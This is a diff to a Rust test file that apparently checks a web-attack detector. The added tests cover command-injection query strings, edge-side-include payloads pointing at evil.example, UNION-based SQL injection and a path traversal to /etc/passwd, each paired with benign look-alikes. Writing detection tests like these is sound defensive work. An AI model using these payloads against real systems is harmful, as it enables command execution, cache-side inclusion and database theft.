@@ -295,3 +295,79 @@ fn double_percent_traversal_in_json() {
         r#"{"f": "..%%32%66..%%32%66etc%%32%66passwd"}"#
     ));
 }
+
+/// Session 9: a prefix that runs the next word (`eval`, `exec`, `sudo`,
+/// `nohup`, `time`…), a subshell `(` or a negation `!` keeps the command
+/// position open. Before: score 0 each.
+#[test]
+fn command_prefixes_and_subshells_keep_the_command_position() {
+    assert_queries(
+        true,
+        &[
+            "h=a;eval+id",
+            "h=a;exec+id",
+            "h=a%7Csudo+whoami",
+            "h=a;command+uname",
+            "h=a;(id)",
+            "h=a;!+id",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=notes;+exec+summary",
+            "q=Sales;+time+management",
+            "q=color:red;!important",
+            "q=see+page+3;+(id+est)",
+        ],
+    );
+}
+
+/// Session 9: edge-side includes, the cache-side neighbour of SSI
+/// (Varnish, Akamai, Squid, Fastly parse them): an include of a URL,
+/// variables (`$(HTTP_COOKIE)`), debug output. Before: score 0 each but
+/// the `esi:inline` line (5, as XSS: rule 2013).
+#[test]
+fn edge_side_includes() {
+    assert_queries(
+        true,
+        &[
+            "q=x+%3Cesi:include+src=%22http://evil.example/%22/%3E",
+            "q=%3C!--esi+%3Cesi:include+src=%22http://evil.example/%22/%3E+--%3E",
+            "q=%3Cesi:inline+name=%22/x%22+src=%22http://evil.example/%22/%3E",
+            "q=x%3Cesi:debug/%3E",
+            "q=%3Cesi:vars%3Ehello%3C/esi:vars%3E",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=how+to+configure+esi+includes+in+varnish",
+            "q=ESI:+edge+side+includes",
+        ],
+    );
+}
+
+/// Session 9: MySQL 8's `VALUES` and `TABLE` statements after UNION
+/// (`' union table users--`), and `!` as NOT. Before: score 0 each.
+#[test]
+fn union_values_table_and_bang_not() {
+    assert_queries(
+        true,
+        &[
+            "id='+union+values(1)--",
+            "id=1+union+values+row(1,2)",
+            "id='+union+table+users--",
+            "id=1+and+!(1=2)",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=European+Union+table+tennis+open",
+            "q=union+values+and+rights",
+            "q=it's+the+union+table+at+noon",
+            "q=wow!+(great)",
+        ],
+    );
+}
